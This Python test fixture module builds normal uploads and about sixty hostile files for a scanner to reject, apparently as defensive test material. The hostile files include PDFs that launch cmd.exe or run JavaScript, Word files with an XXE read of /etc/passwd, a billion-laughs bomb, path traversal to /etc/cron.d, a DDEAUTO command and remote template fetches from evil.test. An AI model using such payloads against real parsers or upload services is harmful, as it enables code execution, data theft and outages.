"""Files as people send them, and files made to hurt. Every one is made here: none is kept."""

import io
import zipfile

import pikepdf
from PIL import Image

from cases.attachments.scanning import EICAR

TYPES = "<?xml version='1.0'?><Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
WORD = "<?xml version='1.0'?><w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'>{}</w:document>"
RELS = "<?xml version='1.0'?><Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>{}</Relationships>"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATION = "<Relationship Id='r1' Type='" + KINDS + "/{}' Target='{}' TargetMode='External'/>"


# --- as people send them ----------------------------------------------------------------------------------------


def picture(form="JPEG", *, size=(80, 60), mode="RGB", exif=True) -> bytes:
    image = Image.new(mode, size, 120)
    given = {"exif": taken_at_home()} if exif and form == "JPEG" else {}
    kept = io.BytesIO()
    image.save(kept, form, **given)
    return kept.getvalue()


def taken_at_home() -> bytes:
    """EXIF with a maker, a place and an orientation."""
    exif = Image.Exif()
    exif[0x010F] = "KANARIE-KAMERA"
    exif[0x0112] = 6
    exif[0x8825] = {1: "N", 2: (57.0, 2.0, 55.0)}
    return exif.tobytes()


def pdf(change=None) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    if change:
        change(document)
    kept = io.BytesIO()
    document.save(kept)
    return kept.getvalue()


def docx(extra: dict | None = None, *, text="Hej", stored=False) -> bytes:
    parts = {"[Content_Types].xml": TYPES, "word/document.xml": WORD.format(f"<w:p>{text}</w:p>")} | (extra or {})
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return kept.getvalue()


def docx_that_points(kind: str, target: str) -> bytes:
    return docx({"word/_rels/document.xml.rels": RELS.format(RELATION.format(kind, target))})


# --- made to hurt -----------------------------------------------------------------------------------------------


def action(**entries):
    def change(document):
        document.Root.OpenAction = pikepdf.Dictionary(**{"S": pikepdf.Name("/" + entries.pop("S")), **entries})

    return pdf(change)


def pdf_with_file() -> bytes:
    def change(document):
        document.attachments["x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ", filename="x.exe")

    return pdf(change)


def pdf_locked() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    kept = io.BytesIO()
    document.save(kept, encryption=pikepdf.Encryption(owner="a", user="b"))
    return kept.getvalue()


def pdf_with_form_script() -> bytes:
    def change(document):
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        document.pages[0].AA = pikepdf.Dictionary(O=document.make_indirect(script))

    return pdf(change)


def pdf_with_xfa() -> bytes:
    def change(document):
        document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=pikepdf.Array())

    return pdf(change)


def pdf_with_hidden_name() -> bytes:
    """/JS written as /J#53: the same name to a reader of PDF."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ]
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(content)
    return content + b"xref\n0 4\n0000000000 65535 f \n" + table + end


def pdf_deep() -> bytes:
    def change(document):
        deep = pikepdf.Array()
        for _level in range(90):
            deep = pikepdf.Array([deep])
        document.Root.Deep = deep

    return pdf(change)


def png_flood() -> bytes:
    return picture("PNG", size=(9000, 9000), mode="1")


def png_that_lies() -> bytes:
    """A head that promises 60,000 × 60,000 dots over a handful of bytes."""
    content = bytearray(picture("PNG", size=(10, 10)))
    content[16:24] = (60_000).to_bytes(4, "big") * 2
    return bytes(content)


def zip_with(*names: str) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return kept.getvalue()


def docx_twice() -> bytes:
    kept = io.BytesIO(docx())
    with zipfile.ZipFile(kept, "a") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("word/document.xml", WORD.format(""))
    return kept.getvalue()


def docx_locked() -> bytes:
    content = bytearray(docx())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        place = content.find(mark) + (6 if mark.endswith(b"\x04") else 8)
        content[place] |= 1
    return bytes(content)


def many_parts() -> bytes:
    return docx({f"word/x{number}.xml": "<a/>" for number in range(2_100)})


BILLION = "<?xml version='1.0'?><!DOCTYPE z [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><w>&b;</w>"
OUTSIDE = "<?xml version='1.0'?><!DOCTYPE z [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><w>&a;</w>"


def hostile() -> dict[str, tuple[str, bytes]]:
    """What it is → (file name, bytes). Each must be refused before it is kept."""
    string = pikepdf.String
    return {
        "program named pdf": ("a.pdf", b"MZ" + b"\0" * 500),
        "ELF named jpg": ("a.jpg", b"\x7fELF" + b"\0" * 500),
        "web page named pdf": ("a.pdf", b"<html><script>alert(1)</script></html>"),
        "SVG named png": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        "SVG": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        "GIF named jpg": ("a.jpg", b"GIF89a" + b"\0" * 50),
        "picture named pdf": ("a.pdf", picture()),
        "pdf named png": ("a.png", pdf()),
        "PDF after a web page": ("a.pdf", b"<script>alert(1)</script>" + pdf()),
        "PDF that is a zip file too": ("a.pdf", pdf() + zip_with("x.html") + b"\n%%EOF"),
        "PDF cut short": ("a.pdf", pdf()[:-200]),
        "PDF without pages": ("a.pdf", b"%PDF-1.7\n%%EOF"),
        "PDF with a script": ("a.pdf", action(S="JavaScript", JS=string("app.alert(1)"))),
        "PDF with a script by another name": ("a.pdf", pdf_with_hidden_name()),
        "PDF with a script on a page": ("a.pdf", pdf_with_form_script()),
        "PDF that starts a program": ("a.pdf", action(S="Launch", F=string("cmd.exe"))),
        "PDF that takes data in": ("a.pdf", action(S="ImportData", F=string("x.fdf"))),
        "PDF with a form of its own": ("a.pdf", pdf_with_xfa()),
        "PDF with a file in it": ("a.pdf", pdf_with_file()),
        "PDF with a password": ("a.pdf", pdf_locked()),
        "PDF without bottom": ("a.pdf", pdf_deep()),
        "test virus alone": ("a.pdf", EICAR),
        "test virus named docx": ("a.docx", EICAR),
        "picture of 81 million dots": ("a.png", png_flood()),
        "picture that promises 3.6 billion dots": ("a.png", png_that_lies()),
        "picture cut short": ("a.jpg", picture(size=(800, 600))[:900]),
        "head of a picture alone": ("a.png", b"\x89PNG\r\n\x1a\n"),
        "zip file named docx": ("a.docx", zip_with("a.txt")),
        "zip file": ("a.zip", zip_with("a.txt")),
        "Word with macros": ("a.docx", docx({"word/vbaProject.bin": b"\xd0\xcf"})),
        "Word with macros by its type": (
            "a.docx",
            docx({"[Content_Types].xml": TYPES.replace("/>", "><a t='macroEnabled'/></Types>")}),
        ),
        "docm": ("a.docm", docx({"word/vbaProject.bin": b"x"})),
        "Word with ActiveX": ("a.docx", docx({"word/activeX/activeX1.bin": b"x"})),
        "Word with an object in it": ("a.docx", docx({"word/embeddings/oleObject1.bin": b"x"})),
        "Word with a zip file in it": ("a.docx", docx({"word/media/image1.png": zip_with("x")})),
        "Word with a program in it": ("a.docx", docx({"word/media/image1.png": b"MZ" + b"\0" * 99})),
        "Word with a path out": ("a.docx", docx({"../../../etc/cron.d/x": "x"})),
        "Word with a path from the root": ("a.docx", docx({"/etc/passwd": "x"})),
        "Word with a Windows path": ("a.docx", docx({"word\\x.xml": "<a/>", "C:/x": "x"})),
        "Word with a part twice": ("a.docx", docx_twice()),
        "Word with a password": ("a.docx", docx_locked()),
        "old Word with a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "Word that unpacks to 60 MB": ("a.docx", docx({"word/x.bin": b"\0" * 60_000_000})),
        "Word with 2,100 parts": ("a.docx", many_parts()),
        "Word with a billion laughs": ("a.docx", docx({"word/x.xml": BILLION})),
        "Word that reads a file of the server": ("a.docx", docx({"word/x.xml": OUTSIDE})),
        "Word that fetches its template": (
            "a.docx",
            docx(
                {
                    "word/_rels/settings.xml.rels": RELS.format(
                        RELATION.format("attachedTemplate", "https://evil.test/x.dotm")
                    )
                }
            ),
        ),
        "Word that fetches a picture": (
            "a.docx",
            docx({"word/_rels/document.xml.rels": RELS.format(RELATION.format("image", "http://evil.test/x.png"))}),
        ),
        "Word that asks another program": ("a.docx", docx(text="<w:instrText> DDEAUTO c:\\\\cmd</w:instrText>")),
        "Word with other text in it": ("a.docx", docx({"word/afchunk.htm": "x", "word/x.xml": "<w><altChunk/></w>"})),
        "Word with broken XML": ("a.docx", docx({"word/x.xml": "<a><b></a>"})),
        "Word with bytes after its end": ("a.docx", docx() + b"<script>alert(1)</script>" + b" " * 99),
        "Word with a script before it": ("a.docx", b"#!/bin/sh\n" + docx()),
        "empty": ("a.pdf", b""),
        "11 MB": ("a.pdf", b"%PDF-" + b"\0" * 11 * 1024 * 1024),
        "without a name that says what it is": ("README", pdf()),
        "two names": ("a.pdf.exe", pdf()),
        "a name of an arrow that turns": ("a\u202efdp.exe", b"MZ"),
        "only zeros": ("a.png", b"\0" * 1000),
        "Word with a broken directory": ("a.docx", docx()[:-8]),
    }
